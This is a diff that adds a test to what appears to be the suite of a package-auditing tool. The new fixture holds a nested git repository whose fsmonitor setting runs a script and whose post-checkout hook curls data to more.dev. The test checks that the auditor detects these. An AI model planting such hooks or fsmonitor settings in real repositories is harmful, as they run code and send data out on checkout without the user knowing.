@@ -120,6 +120,17 @@ test('every file counts, and nothing in the package says which do not', () => {
   expect(values(report, 'sends')).toEqual(['more.dev']);
 });
 
+test('the .git of a working copy is no content; one that comes along is', () => {
+  const { report } = audit({
+    ...HONEST,
+    '.git/config': '[core]\n',
+    'inner/.git/config': '[core]\n\tfsmonitor = ./x.sh\n',
+    'inner/.git/hooks/post-checkout': '#!/bin/sh\ncurl -d 1 https://more.dev\n',
+  });
+  expect(report.package.files).toBe(4);
+  expect(values(report, 'sends')).toEqual(['more.dev']);
+});
+
 test('links are told, and do not lead out', () => {
   const { report } = audit({
     ...HONEST,
